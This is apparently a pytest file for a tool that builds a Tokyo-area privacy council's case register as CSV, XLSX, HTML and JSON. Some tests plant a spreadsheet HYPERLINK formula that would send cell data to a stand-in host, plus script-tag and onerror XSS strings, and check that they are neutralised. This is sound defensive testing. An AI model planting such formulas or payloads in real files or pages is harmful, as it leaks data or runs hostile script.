"""`shingikai report`: the register of report.md, checked against the files it is made from.

The expected long table is built here from the YAML alone (the grid, the labels, the
fiscal years and the order written out again from the specs), never by the code under
test; every format is read back as an office would open it (csv bytes, openpyxl, the
HTML parsed) and compared with it.
"""

from __future__ import annotations

import csv
import io
import json
import os
import pty
import re
import subprocess
import unicodedata
from collections import Counter
from pathlib import Path
from typing import Any

import openpyxl
import pytest
import yaml
from bs4 import BeautifulSoup

from conftest import CASES, MINIMAL, SHINGIKAI, dump, run

COLUMNS = ["年度", "会議", "議題", "諮問・報告", "件名", "主管課", "区分", "項目", "相手方", "通知", "会議の結果", "ファイル"]
# case-format.md's grid, in the sheet's order, by group.
GRID = {
    "基本的事項": ["識別番号", "氏名", "本籍", "国籍", "生年月日", "年齢", "性別", "住所", "電話番号", "電子メールアドレス", "口座情報"],
    "心身の状況": ["健康状態", "病歴", "身体の特徴"],
    "家族状況等": ["家族状況", "親族関係", "婚姻"],
    "社会生活": ["職業", "職歴", "学歴", "学業", "資格", "賞罰", "成績", "評価", "財産", "収入", "納税状況", "趣味", "公的扶助"],
}
ITEMS = [item for items in GRID.values() for item in items]
# The sections in the sheet's order: (key, 区分, the key of the other party).
SECTIONS = [
    ("indirect_collection", "本人外収集", "source"),
    ("secondary_use", "目的外利用", "source_organization"),
    ("external_provision", "外部提供", "recipient"),
    ("record_items", "記録項目の", "system"),
    ("linkage", "結合", "third_party_system"),
]
COUNCIL = "狛江市個人情報保護審議会"
SEEDS = sorted(CASES.glob("*.yaml"))


# --- The long table, built from the YAML -------------------------------------------


def era_fiscal_year(text: str) -> int | None:
    """The fiscal year (by the year it begins in) of the first era date in `text`."""
    found = re.search(r"(令和|平成)(元|\d+)年(度)?(?:(\d+)月)?", text)
    if found is None or re.search(r"\d+月", text[: found.start()]):
        return None
    year = {"令和": 2018, "平成": 1988}[found[1]] + (1 if found[2] == "元" else int(found[2]))
    if found[3]:
        return year
    month = int(found[4]) if found[4] else 1
    return year if month >= 4 else year - 1


def fiscal_label(year: int | None) -> str:
    if year is None:
        return ""
    era, number = ("令和", year - 2018) if year >= 2019 else ("平成", year - 1988)
    return f"{era}{'元' if number == 1 else number}年度"


def case_rows(data: dict[str, Any]) -> list[list[str]]:
    """(区分, 項目, 相手方, 通知) of each row of the case `data`."""
    rows = []
    for key, label, party in SECTIONS:
        section = data.get(key)
        if not section:
            continue
        if key == "record_items":
            label += section["operation"]
        notice = section.get("notice")
        mark = "" if notice is None else ("無" if notice["given"] == "無" else f"有（{notice['timing']}）")
        items = sorted(section.get("items", []), key=ITEMS.index) + section.get("other_items", [])
        counterpart = (section.get(party) or "").strip()
        rows += [[label, item, counterpart, mark] for item in items or [""]]
    return rows


def expected_table(repository: Path, meetings: list[Path], cases: list[Path]) -> list[list[str]]:
    """The long table of `cases` (paths inside `repository`) placed by `meetings`."""
    placed: dict[Path, tuple[Any, ...]] = {}
    for path in meetings:
        meeting = yaml.safe_load(path.read_text(encoding="utf-8"))
        year = era_fiscal_year(meeting["fiscal_year"])
        date = re.match(r"(令和|平成)(\d+)年(\d+)月(\d+)日", meeting["date"])
        assert date is not None
        day = ({"令和": 2018, "平成": 1988}[date[1]] + int(date[2]), int(date[3]), int(date[4]))
        for order, (key, label) in enumerate((("consultations", "諮問事項"), ("reports", "報告事項"))):
            for index, item in enumerate(meeting.get(key, [])):
                case = (path.parent / item["case"]).resolve()
                decision = (item.get("result") or {}).get("decision", "")
                place = ((year, day, meeting["number"]), order, index, f"{meeting['fiscal_year']}第{meeting['number']}回{COUNCIL}", f"{label}（{index + 1}）", decision)
                if case not in placed or place[0] > placed[case][0]:
                    placed[case] = place
    keyed = []
    for path in cases:
        data = yaml.safe_load(path.read_text(encoding="utf-8"))
        place = placed.get(path.resolve())
        year = place[0][0] if place else era_fiscal_year(data["period"])
        departments = data["departments"] if isinstance(data["departments"], list) else [data["departments"]]
        file = path.resolve().relative_to(repository.resolve()).as_posix()
        head = [fiscal_label(year), place[3] if place else "", place[4] if place else "", data["kind"], data["title"].strip(), "、".join(departments)]
        sort = (year is None, year or 0, place is None, place[0][1:] if place else (), place[1:3] if place else (), file)
        for section, item, counterpart, notice in case_rows(data):
            keyed.append((sort, [*head, section, item, counterpart, notice, place[5] if place else "", file]))
    # sorted() is stable: a case's rows keep their order.
    return [row for _, row in sorted(keyed, key=lambda pair: pair[0])]


def read_csv(path: Path) -> list[list[str]]:
    raw = path.read_bytes()
    assert raw.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(raw.decode("utf-8")[1:], newline="")))


# --- Repositories -------------------------------------------------------------------


def case_file(**changes: Any) -> str:
    data = yaml.safe_load(MINIMAL)
    data.update(changes)
    return dump(data)


COLLECTION = case_file(
    title="住民情報の本人外収集及び電子計算機処理による記録項目の変更について",
    bases=["本人外収集", "記録項目"],
    departments="市民生活部市民課",
    period="令和5年度から",
    external_provision=None,
    indirect_collection={
        "items": ["住所", "氏名"],
        "other_items": ["世帯番号"],
        "source": "東京都",
        "reason": "理由",
        "notice": {"given": "有", "timing": "事前", "method": "本人へ送付した。"},
    },
    record_items={"operation": "変更", "items": ["氏名"], "processing_summary": "処理の概要"},
)
NO_YEAR = case_file(title="毎年の外部提供及び外部提供に係る通知の要否について", period="毎年4月")

R3_3 = """\
version: 1
kind: 会議
fiscal_year: 令和3年度
number: 3
date: 令和4年1月17日（月）
place: 狛江市役所4階 特別会議室
consultations:
  - case: ../cases/ai-ocr-shoukyaku-shisan.yaml
    result:
      decision: 承認
  - case: ../cases/gakkou-kenshin-itaku.yaml
    result:
      decision: 継続審議
reports:
  - case: ../cases/ninchisho-koureisha-sousaku.yaml
    result:
      decision: 了承
"""
R4_1 = """\
version: 1
kind: 会議
fiscal_year: 令和４年度
number: 1
date: 令和4年5月16日（月）
place: 狛江市役所4階 特別会議室
consultations:
  - case: ../cases/gakkou-kenshin-itaku.yaml
    result:
      decision: 条件付承認
      conditions: 委託先における検査結果の保存期間を契約書に明記すること。
  - case: ../cases/koseki-cloud.yaml
"""


@pytest.fixture
def repository(tmp_path: Path) -> Path:
    """A case repository: the six seed cases, two more, and two meetings (one case on both)."""
    root = tmp_path / "repository"
    (root / ".git").mkdir(parents=True)
    (root / "cases").mkdir()
    (root / "meetings").mkdir()
    for path in SEEDS:
        (root / "cases" / path.name).write_text(path.read_text(encoding="utf-8"), encoding="utf-8")
    (root / "cases" / "juumin-shuushuu.yaml").write_text(COLLECTION, encoding="utf-8")
    (root / "cases" / "maitoshi-teikyou.yaml").write_text(NO_YEAR, encoding="utf-8")
    (root / "meetings" / "r3-3.yaml").write_text(R3_3, encoding="utf-8")
    (root / "meetings" / "r4-1.yaml").write_text(R4_1, encoding="utf-8")
    return root


def files_of(repository: Path) -> tuple[list[Path], list[Path]]:
    return sorted((repository / "meetings").glob("*.yaml")), sorted((repository / "cases").glob("*.yaml"))


def report(*args: str | Path, cwd: Path) -> Any:
    result = run("report", *args, cwd=cwd)
    assert "Traceback" not in result.stderr, result.stderr
    return result


def test_the_repository_lints_without_errors(repository: Path) -> None:
    result = run("lint", "cases/", "meetings/", cwd=repository)
    assert result.code == 0, result.stdout


# --- The long table -----------------------------------------------------------------


def test_the_long_table_is_the_files_row_for_row(repository: Path) -> None:
    result = report("cases/", "meetings/", "-o", "register.csv", cwd=repository)
    assert result.code == 0, result.stderr
    assert result.stderr == "shingikai: register.csv に台帳（案件 8 件）を書き出しました\n"
    header, *rows = read_csv(repository / "register.csv")
    assert header == COLUMNS
    assert rows == expected_table(repository, *files_of(repository))


def test_the_years_and_the_order_of_the_long_table(repository: Path) -> None:
    """What the row-for-row comparison rests on, said plainly: the latest meeting places a
    case; a period's January counts in the year before; a case without a year comes last."""
    report("cases/", "meetings/", "-o", "register.csv", cwd=repository)
    _, *rows = read_csv(repository / "register.csv")
    cases = list(dict.fromkeys((row[0], row[2], row[10], row[11]) for row in rows))
    assert cases == [
        ("令和3年度", "諮問事項（1）", "承認", "cases/ai-ocr-shoukyaku-shisan.yaml"),
        ("令和3年度", "報告事項（1）", "了承", "cases/ninchisho-koureisha-sousaku.yaml"),
        ("令和3年度", "", "", "cases/hikazei-setai-kyufukin.yaml"),
        ("令和3年度", "", "", "cases/kosodate-senkou-kyufukin.yaml"),
        ("令和4年度", "諮問事項（1）", "条件付承認", "cases/gakkou-kenshin-itaku.yaml"),
        ("令和4年度", "諮問事項（2）", "", "cases/koseki-cloud.yaml"),
        ("令和5年度", "", "", "cases/juumin-shuushuu.yaml"),
        ("", "", "", "cases/maitoshi-teikyou.yaml"),
    ]
    assert {row[1] for row in rows if row[11] == "cases/gakkou-kenshin-itaku.yaml"} == {"令和４年度第1回狛江市個人情報保護審議会"}
    collection = [row[6:10] for row in rows if row[11] == "cases/juumin-shuushuu.yaml"]
    assert collection == [
        ["本人外収集", "氏名", "東京都", "有（事前）"],
        ["本人外収集", "住所", "東京都", "有（事前）"],
        ["本人外収集", "世帯番号", "東京都", "有（事前）"],
        ["記録項目の変更", "氏名", "", ""],
    ]


def test_the_seed_repository_is_on_its_one_meeting(tmp_path: Path) -> None:
    root = tmp_path / "seeds"
    (root / ".git").mkdir(parents=True)
    (root / "cases" / "meetings").mkdir(parents=True)
    for path in SEEDS:
        (root / "cases" / path.name).write_text(path.read_text(encoding="utf-8"), encoding="utf-8")
    meeting = root / "cases" / "meetings" / "r3-3.yaml"
    meeting.write_text((CASES / "meetings" / "r3-3.yaml").read_text(encoding="utf-8"), encoding="utf-8")
    result = report("cases/", "-o", "register.csv", cwd=root)
    assert result.code == 0, result.stderr
    _, *rows = read_csv(root / "register.csv")
    assert rows == expected_table(root, [meeting], sorted((root / "cases").glob("*.yaml")))
    assert len(rows) == 56 and {row[0] for row in rows} == {"令和3年度"}


def test_the_cases_on_a_meetings_agenda_are_in_the_register_of_the_meeting_alone(repository: Path) -> None:
    result = report("meetings/r4-1.yaml", "-o", "register.csv", cwd=repository)
    assert result.code == 0, result.stderr
    _, *rows = read_csv(repository / "register.csv")
    cases = [repository / "cases" / "gakkou-kenshin-itaku.yaml", repository / "cases" / "koseki-cloud.yaml"]
    assert rows == expected_table(repository, [repository / "meetings" / "r4-1.yaml"], cases)


def test_a_run_on_the_process_pool_gives_the_same_table(tmp_path: Path) -> None:
    """From 200 files lint's pipeline runs over a process pool: the rows come from the workers."""
    root = tmp_path / "many"
    (root / ".git").mkdir(parents=True)
    (root / "cases").mkdir()
    for index in range(230):
        data = yaml.safe_load(MINIMAL)
        data["title"] = f"外部提供{index}及び外部提供に係る通知の要否について"
        data["period"] = f"令和{index % 5 + 2}年{index % 12 + 1}月{index % 28 + 1}日から"
        data["external_provision"]["items"] = ITEMS[index % 20 : index % 20 + 1 + index % 4][::-1]
        (root / "cases" / f"case-{index:03d}.yaml").write_text(dump(data), encoding="utf-8")
    result = report("cases/", "-o", "register.csv", cwd=root)
    assert result.code == 0, result.stderr
    _, *rows = read_csv(root / "register.csv")
    table = expected_table(root, [], sorted((root / "cases").glob("*.yaml")))
    assert rows == table
    # 項目別 and 相手方別 of the rows the workers made for them; 項目別's cells made by a
    # forked process (from 200 cases). The store's database is gone afterwards.
    scratch = tmp_path / "tmp"
    scratch.mkdir()
    assert run("report", "cases/", "-o", "register.html", cwd=root, env={"TMPDIR": str(scratch)}).code == 0
    assert list(scratch.iterdir()) == []
    views = html_views(root / "register.html")
    assert views["項目別"] == expected_by_item(table)
    assert views["相手方別"] == expected_by_counterpart(table)


def test_what_a_forked_process_makes_is_read_back_and_its_failure_is_an_error() -> None:
    from shingikai.errors import ShingikaiError
    from shingikai.register.apart import apart

    with apart(lambda: (f"<td>{n}</td>" for n in range(5000)), "作れません") as made:
        assert list(made()) == [f"<td>{n}</td>" for n in range(5000)]

    def failing() -> Any:
        yield "<td>1</td>"
        raise ShingikaiError("一時ファイルに書けません")

    with apart(failing, "台帳の html の項目別を作れません") as made:
        with pytest.raises(ShingikaiError, match=r"^台帳の html の項目別を作れません（一時ファイルに書けません）$"):
            list(made())

    def endless() -> Any:
        while True:
            yield "<td></td>"

    # Left before it is read: the process is ended, not left behind.
    with apart(endless, "作れません"):
        pass
    with pytest.raises(ChildProcessError):
        os.waitpid(-1, os.WNOHANG)


def test_one_fiscal_year(repository: Path) -> None:
    result = report("cases/", "meetings/", "--year", "令和4年度", "-o", "register.csv", cwd=repository)
    assert result.code == 0, result.stderr
    _, *rows = read_csv(repository / "register.csv")
    everything = expected_table(repository, *files_of(repository))
    assert rows == [row for row in everything if row[0] == "令和4年度"]
    assert {row[11] for row in rows} == {"cases/gakkou-kenshin-itaku.yaml", "cases/koseki-cloud.yaml"}
    # Any spelling of the year, as a meeting file may write it.
    again = report("cases/", "meetings/", "--year", "令和４年度", "-o", "again.csv", cwd=repository)
    assert (repository / "again.csv").read_bytes() == (repository / "register.csv").read_bytes(), again.stderr


# --- The files: csv, json, xlsx, html, table ----------------------------------------


def test_the_csv_is_utf8_with_a_bom_crlf_and_rfc4180_quoting(repository: Path) -> None:
    title = 'AI-OCR の "外部提供", 及び\n外部提供に係る通知の要否について'
    (repository / "cases" / "quoted.yaml").write_text(case_file(title=title, period="令和6年4月1日～"), encoding="utf-8")
    assert report("cases/quoted.yaml", "-o", "register.csv", cwd=repository).code == 0
    raw = (repository / "register.csv").read_bytes()
    header = ",".join(COLUMNS).encode("utf-8")
    assert raw.startswith(b"\xef\xbb\xbf" + header + b"\r\n")
    assert raw.endswith(b"\r\n")
    quoted = '"AI-OCR の ""外部提供"", 及び\n外部提供に係る通知の要否について"'
    assert raw.decode("utf-8").split("\r\n")[1] == (
        f"令和6年度,,,諮問,{quoted},企画財政部情報政策課,外部提供,住所,株式会社A,無,,cases/quoted.yaml"
    )
    # Every record ends with CRLF; a line break inside a quoted cell is the one written.
    assert raw.count(b"\r\n") == 2 and raw.count(b"\n") == 3


def test_a_cell_a_spreadsheet_would_take_for_a_formula_is_written_as_text(repository: Path) -> None:
    formula = yaml.safe_load(MINIMAL)
    formula["title"] = '=HYPERLINK("http://example.invalid/?"&A1,"外部提供")について'
    formula["external_provision"]["recipient"] = "+81 株式会社A\x01"
    (repository / "cases" / "formula.yaml").write_text(dump(formula), encoding="utf-8")
    assert report("cases/formula.yaml", "-o", "register.csv", cwd=repository).code == 0
    [row] = read_csv(repository / "register.csv")[1:]
    assert row[4] == """'=HYPERLINK("http://example.invalid/?"&A1,"外部提供")について"""
    assert row[8] == "'+81 株式会社A\x01"
    assert report("cases/formula.yaml", "-o", "register.xlsx", cwd=repository).code == 0
    sheet = openpyxl.load_workbook(repository / "register.xlsx")["一覧"]
    assert sheet["E2"].data_type == "s"
    assert sheet["E2"].value == '=HYPERLINK("http://example.invalid/?"&A1,"外部提供")について'
    # A control character that an xlsx cannot hold is replaced, not refused.
    assert sheet["I2"].value == "+81 株式会社A\ufffd"


def test_the_json_is_the_long_table_as_objects(repository: Path) -> None:
    result = report("cases/", "meetings/", "--format", "json", cwd=repository)
    assert result.code == 0, result.stderr
    objects = json.loads(result.stdout)
    assert [list(obj) for obj in objects] == [COLUMNS] * len(objects)
    assert [list(obj.values()) for obj in objects] == expected_table(repository, *files_of(repository))


def test_the_json_of_no_case_is_an_empty_list(repository: Path) -> None:
    result = report("cases/", "meetings/", "--year", "平成元年度", "--format", "json", cwd=repository)
    assert (result.code, result.stdout) == (0, "[]\n")


def display_width(text: str) -> int:
    return sum(2 if unicodedata.east_asian_width(c) in "WFA" else 1 for c in text)


def test_the_xlsx_has_a_sheet_per_view_a_frozen_header_an_autofilter_and_fitted_widths(repository: Path) -> None:
    result = report("cases/", "meetings/", "-o", "register.xlsx", cwd=repository)
    assert result.code == 0, result.stderr
    workbook = openpyxl.load_workbook(repository / "register.xlsx")
    assert workbook.sheetnames == ["一覧", "相手方別", "項目別", "運用状況"]
    expected = expected_table(repository, *files_of(repository))
    listing = workbook["一覧"]
    values = [[cell if cell is not None else "" for cell in row] for row in listing.iter_rows(values_only=True)]
    assert values == [COLUMNS, *expected]
    for sheet in workbook:
        rows = list(sheet.iter_rows(values_only=True))
        last = openpyxl.utils.get_column_letter(len(rows[0]))
        assert sheet.freeze_panes == "A2"
        assert sheet.auto_filter.ref == f"A1:{last}{len(rows)}"
        assert all(cell.font.b for cell in sheet[1])
        assert sheet.page_setup.orientation == "landscape"
        for index, column in enumerate(zip(*rows), start=1):
            widest = max(display_width(line) for cell in column if cell is not None for line in str(cell).split("\n"))
            width = sheet.column_dimensions[openpyxl.utils.get_column_letter(index)].width
            assert width == min(widest + 2, 60), (sheet.title, rows[0][index - 1])
    # 令和3年度: four wide characters and a digit, nine columns; and a margin.
    assert listing.column_dimensions["A"].width == 11


def expected_by_item(table: list[list[str]]) -> list[list[str]]:
    """項目別 of the long table `table`: every row with an item, by the grid's order, then the
    other items' texts."""
    rank = {item: index for index, item in enumerate(ITEMS)}
    group = {item: name for name, items in GRID.items() for item in items}
    with_item = [row for row in table if row[7]]
    by_item = sorted(with_item, key=lambda row: (rank.get(row[7], len(ITEMS)), row[7] if row[7] not in rank else ""))
    return [
        ["項目", "項目の分類", "区分", "相手方", "年度", "件名", "会議の結果", "ファイル"],
        *[[r[7], group.get(r[7], "その他の項目"), r[6], r[8], r[0], r[4], r[10], r[11]] for r in by_item],
    ]


def expected_by_counterpart(table: list[list[str]]) -> list[list[str]]:
    """相手方別 of the long table `table`: a row per 相手方, case and section, the items joined."""
    sections: dict[tuple[str, str, str], list[str]] = {}
    for row in table:
        sections.setdefault((row[8], row[11], row[6]), []).append(row[7])
    firsts = {(row[8], row[11], row[6]): row for row in reversed(table)}
    order = sorted(sections, key=lambda key: (key[0] == "", key[0]))
    return [
        ["相手方", "区分", "項目", "年度", "件名", "会議の結果", "ファイル"],
        *[[k[0], k[2], "、".join(i for i in sections[k] if i), firsts[k][0], firsts[k][4], firsts[k][10], k[1]] for k in order],
    ]


def html_views(path: Path) -> dict[str, list[list[str]]]:
    """Each view of the register's html page: its header row, then its rows, as text."""
    page = BeautifulSoup(path.read_text(encoding="utf-8"), "html.parser")
    return {
        section.h2.string: [[cell.get_text() for cell in tr.find_all(["th", "td"])] for tr in section.table.find_all("tr")]
        for section in page.find_all("section", class_="view")
    }


def test_the_views_are_made_from_the_long_table(repository: Path) -> None:
    report("cases/", "meetings/", "-o", "register.xlsx", cwd=repository)
    workbook = openpyxl.load_workbook(repository / "register.xlsx")
    table = expected_table(repository, *files_of(repository))

    def values(name: str) -> list[list[Any]]:
        return [[cell if cell is not None else "" for cell in row] for row in workbook[name].iter_rows(values_only=True)]

    assert values("項目別") == expected_by_item(table)
    assert values("相手方別") == expected_by_counterpart(table)


def test_the_counts_of_the_operations_view_are_those_of_the_long_table(repository: Path) -> None:
    report("cases/", "meetings/", "-o", "register.csv", cwd=repository)
    report("cases/", "meetings/", "-o", "register.xlsx", cwd=repository)
    _, *rows = read_csv(repository / "register.csv")
    years = list(dict.fromkeys(row[0] or "年度なし" for row in rows))
    counts: dict[str, Counter[tuple[str, str]]] = {year: Counter() for year in [*years, "合計"]}
    for file in dict.fromkeys(row[11] for row in rows):
        mine = [row for row in rows if row[11] == file]
        for year in (mine[0][0] or "年度なし", "合計"):
            counts[year][("案件", "計")] += 1
            counts[year][("諮問・報告", mine[0][3])] += 1
            for section in {row[6] for row in mine}:
                counts[year][("区分", section)] += 1
            counts[year][("会議の結果", mine[0][10] or "なし")] += 1
    sheet = list(openpyxl.load_workbook(repository / "register.xlsx")["運用状況"].iter_rows(values_only=True))
    assert sheet[0] == ("分類", "内訳", "令和3年度", "令和4年度", "令和5年度", "年度なし", "合計")
    lines = [("案件", "計"), ("諮問・報告", "諮問"), ("諮問・報告", "報告")]
    lines += [("区分", s) for s in ("本人外収集", "目的外利用", "外部提供", "記録項目の設定", "記録項目の追加", "記録項目の変更", "結合")]
    lines += [("会議の結果", d) for d in ("承認", "条件付承認", "不承認", "継続審議", "了承", "なし")]
    assert [row[:2] for row in sheet[1:]] == lines
    assert [list(row[2:]) for row in sheet[1:]] == [[counts[year][line] for year in counts] for line in lines]
    # And the figures themselves, for the years of the repository.
    assert sheet[1] == ("案件", "計", 4, 2, 1, 1, 8)
    assert sheet[-2] == ("会議の結果", "了承", 1, 0, 0, 0, 1)


def test_the_html_is_one_page_with_the_four_views_escaped_and_printable_on_a4_landscape(repository: Path) -> None:
    hostile = yaml.safe_load(MINIMAL)
    hostile["title"] = "<script>alert(1)</script>の外部提供及び外部提供に係る通知の要否について"
    hostile["period"] = "令和6年4月1日～"
    hostile["external_provision"]["recipient"] = '"><img src=x onerror=alert(2)>株式会社A'
    (repository / "cases" / "hostile.yaml").write_text(dump(hostile), encoding="utf-8")
    result = report("cases/", "meetings/", "-o", "register.html", cwd=repository)
    assert result.code == 0, result.stderr
    text = (repository / "register.html").read_text(encoding="utf-8")
    assert "<script" not in text and "<img" not in text
    assert "&lt;script&gt;alert(1)&lt;/script&gt;の外部提供" in text
    assert "&#34;&gt;&lt;img src=x onerror=alert(2)&gt;株式会社A" in text
    assert "@page { size: A4 landscape;" in text
    # Self-contained: nothing is loaded from anywhere.
    assert not re.search(r"<link|\bsrc=|url\(|@import|https?://", text.replace("&lt;img src=x", ""))
    page = BeautifulSoup(text, "html.parser")
    assert page.title.string == "狛江市個人情報保護審議会 付議案件の台帳"
    sections = page.find_all("section", class_="view")
    assert [section.h2.string for section in sections] == ["一覧", "相手方別", "項目別", "運用状況"]
    listing = [[td.get_text() for td in tr.find_all("td")] for tr in sections[0].tbody.find_all("tr")]
    meetings, cases = files_of(repository)
    assert listing == expected_table(repository, meetings, cases)
    assert [th.get_text() for th in sections[0].thead.find_all("th")] == COLUMNS


def test_every_view_of_the_html_is_the_views_cell_for_cell_escaped(repository: Path) -> None:
    """The cells of every view are made in Python (output.html_cells) and placed by the
    template: each is the view's text, escaped, in a cell of its own, the counts too."""
    hostile = yaml.safe_load(MINIMAL)
    hostile["title"] = "<b>件名</b> & 'その他'の外部提供及び外部提供に係る通知の要否について"
    hostile["period"] = "令和6年4月1日～"
    hostile["external_provision"]["recipient"] = '"><td>株式会社X</td>'
    hostile["external_provision"]["other_items"] = ["<i>世帯番号</i>"]
    (repository / "cases" / "hostile.yaml").write_text(dump(hostile), encoding="utf-8")
    result = report("cases/", "meetings/", "-o", "register.html", cwd=repository)
    assert result.code == 0, result.stderr
    text = (repository / "register.html").read_text(encoding="utf-8")
    assert "<b>" not in text and "<i>" not in text and "<td>株式会社X" not in text
    assert "&lt;b&gt;件名&lt;/b&gt; &amp; &#39;その他&#39;の外部提供" in text
    views = html_views(repository / "register.html")
    table = expected_table(repository, *files_of(repository))
    assert views["一覧"] == [COLUMNS, *table]
    assert views["項目別"] == expected_by_item(table)
    assert views["相手方別"] == expected_by_counterpart(table)
    operations = report("cases/", "meetings/", "--view", "運用状況", cwd=repository)
    assert views["運用状況"] == [line.split("\t") for line in operations.lines()]


def test_the_table_off_a_terminal_is_plain_tab_separated_lines(repository: Path) -> None:
    result = report("cases/", "meetings/", cwd=repository)
    assert result.code == 0, result.stderr
    expected = expected_table(repository, *files_of(repository))
    plain = [[re.sub(r"[\t\r\n]+", " ", cell) for cell in row] for row in [COLUMNS, *expected]]
    assert result.stdout == "".join("\t".join(row) + "\n" for row in plain)
    operations = report("cases/", "meetings/", "--view", "運用状況", cwd=repository)
    assert operations.lines()[:2] == ["分類\t内訳\t令和3年度\t令和4年度\t令和5年度\t年度なし\t合計", "案件\t計\t4\t2\t1\t1\t8"]
    by_item = report("cases/", "meetings/", "--view", "項目別", "-o", "items.txt", cwd=repository)
    assert by_item.code == 0
    assert (repository / "items.txt").read_text(encoding="utf-8").splitlines()[0] == "項目\t項目の分類\t区分\t相手方\t年度\t件名\t会議の結果\tファイル"


def test_the_table_on_a_terminal_is_a_rich_table(repository: Path) -> None:
    (repository / "cases" / "markup.yaml").write_text(case_file(title="[bold]外部提供[/bold]について", period="令和6年4月1日～"), encoding="utf-8")
    leader, follower = pty.openpty()
    process = subprocess.Popen(
        [str(SHINGIKAI), "report", "cases/markup.yaml", "--view", "一覧"],
        cwd=repository,
        stdout=follower,
        stderr=subprocess.PIPE,
        env={**os.environ, "COLUMNS": "400", "LINES": "50", "TERM": "xterm"},
    )
    os.close(follower)
    shown = b""
    while True:
        try:
            chunk = os.read(leader, 65536)
        except OSError:
            break
        if not chunk:
            break
        shown += chunk
    os.close(leader)
    assert process.wait(timeout=60) == 0, process.stderr.read() if process.stderr else ""
    screen = re.sub(r"\x1b\[[0-9;?]*[A-Za-z]", "", shown.decode("utf-8"))
    assert "一覧" in screen and "┃ 年度" in screen and "\t" not in screen
    # The title as written, never read as rich's markup.
    assert "[bold]外部提供[/bold]について" in screen


# --- Lint errors, --force -----------------------------------------------------------

BROKEN = "kosodate-senkou-kyufukin.yaml"


def lint_errors(path: str, cwd: Path) -> list[str]:
    lines = run("lint", path, cwd=cwd).lines()
    return [line for line in lines if re.match(r"^[^:]+:\d+:\d+: E", line)]


def test_a_case_with_lint_errors_is_listed_as_lint_lists_it_and_not_counted(repository: Path) -> None:
    (repository / "cases" / BROKEN).write_text((CASES.parent / "tests" / "fixtures" / "as-submitted" / BROKEN).read_text(encoding="utf-8"), encoding="utf-8")
    errors = lint_errors(f"cases/{BROKEN}", repository)
    assert errors
    result = report("cases/", "meetings/", "-o", "register.csv", cwd=repository)
    assert result.code == 1
    assert result.stderr.splitlines() == [
        *errors,
        "shingikai: 検査エラーのあるケース 1 件を台帳に載せていません。エラーを直すか、--force で載せます（その行の「検査エラー」の列に「あり」と付きます）",
        "shingikai: register.csv に台帳（案件 7 件）を書き出しました",
    ]
    _, *rows = read_csv(repository / "register.csv")
    meetings, cases = files_of(repository)
    assert rows == expected_table(repository, meetings, [case for case in cases if case.name != BROKEN])


def test_a_case_with_warnings_is_counted_as_it_is_and_they_are_not_told(repository: Path) -> None:
    """Only lint's errors keep a case out: the register does not run the warning rules."""
    (repository / "cases" / "warned.yaml").write_text(case_file(remarks="狛枝市の例による。"), encoding="utf-8")
    assert "W404" in run("lint", "cases/warned.yaml", cwd=repository).stdout
    result = report("cases/", "meetings/", "-o", "register.csv", cwd=repository)
    assert result.code == 0, result.stderr
    assert result.stderr.splitlines() == ["shingikai: register.csv に台帳（案件 9 件）を書き出しました"]
    _, *rows = read_csv(repository / "register.csv")
    assert rows == expected_table(repository, *files_of(repository))


def test_forced_a_case_with_lint_errors_is_counted_and_its_rows_marked(repository: Path) -> None:
    (repository / "cases" / BROKEN).write_text((CASES.parent / "tests" / "fixtures" / "as-submitted" / BROKEN).read_text(encoding="utf-8"), encoding="utf-8")
    result = report("cases/", "meetings/", "--force", "-o", "register.csv", cwd=repository)
    assert result.code == 0
    assert result.stderr.splitlines()[-2:] == [
        "shingikai: 検査エラーのあるファイル 1 件を載せ、その行の「検査エラー」の列に「あり」と付けました",
        "shingikai: register.csv に台帳（案件 8 件）を書き出しました",
    ]
    header, *rows = read_csv(repository / "register.csv")
    assert header == [*COLUMNS, "検査エラー"]
    assert {row[11] for row in rows if row[12] == "あり"} == {f"cases/{BROKEN}"}
    assert {row[12] for row in rows if row[11] != f"cases/{BROKEN}"} == {""}
    # Its rows as far as it could be read: the stand-ins where values are missing.
    assert [row[6:9] for row in rows if row[12]][0] == ["目的外利用", "識別番号", "（未記入）"]


def test_forced_the_mark_is_in_every_view(repository: Path) -> None:
    (repository / "cases" / BROKEN).write_text((CASES.parent / "tests" / "fixtures" / "as-submitted" / BROKEN).read_text(encoding="utf-8"), encoding="utf-8")
    assert report("cases/", "meetings/", "--force", "-o", "register.xlsx", cwd=repository).code == 0
    workbook = openpyxl.load_workbook(repository / "register.xlsx")
    for name in ("一覧", "相手方別", "項目別"):
        rows = list(workbook[name].iter_rows(values_only=True))
        assert rows[0][-1] == "検査エラー"
        assert {row[-2] for row in rows[1:] if row[-1] == "あり"} == {f"cases/{BROKEN}"}


def test_a_meeting_with_lint_errors_places_no_case(repository: Path) -> None:
    meeting = repository / "meetings" / "r4-1.yaml"
    meeting.write_text(R4_1.replace("decision: 条件付承認", "decision: 了承"), encoding="utf-8")
    result = report("cases/", "meetings/", "-o", "register.csv", cwd=repository)
    assert result.code == 1
    errors = lint_errors("meetings/r4-1.yaml", repository)
    assert [line.split(" ")[:2] for line in errors] == [["meetings/r4-1.yaml:10:7:", "E504"], ["meetings/r4-1.yaml:10:7:", "E505"]]
    assert result.stderr.splitlines()[:3] == [
        *errors,
        "shingikai: 検査エラーのある会議 1 件を台帳に載せていません。エラーを直すか、--force で載せます（その行の「検査エラー」の列に「あり」と付きます）",
    ]
    _, *rows = read_csv(repository / "register.csv")
    meetings, cases = files_of(repository)
    assert rows == expected_table(repository, [repository / "meetings" / "r3-3.yaml"], cases)
    forced = report("cases/", "meetings/", "--force", "-o", "forced.csv", cwd=repository)
    assert forced.code == 0
    _, *rows = read_csv(repository / "forced.csv")
    assert {row[11] for row in rows if row[12] == "あり"} == {"cases/gakkou-kenshin-itaku.yaml", "cases/koseki-cloud.yaml"}
    assert {row[10] for row in rows if row[11] == "cases/gakkou-kenshin-itaku.yaml"} == {"了承"}


def test_a_file_that_is_no_case_is_never_counted(repository: Path) -> None:
    (repository / "cases" / "broken.yaml").write_text("title: [\n", encoding="utf-8")
    for force in ([], ["--force"]):
        result = report("cases/", "meetings/", *force, "-o", "register.csv", cwd=repository)
        assert result.code == 1
        assert "cases/broken.yaml: ケースとして読み取れないため、台帳に載せられません（--force でも載せられません）" in result.stderr.splitlines()
        assert "shingikai: ケースや会議として読み取れないファイル 1 件を台帳に載せていません" in result.stderr.splitlines()
        assert "cases/broken.yaml" not in (repository / "register.csv").read_text(encoding="utf-8")


# --- Usage and I/O: exit 2, nothing written -----------------------------------------


@pytest.mark.parametrize(
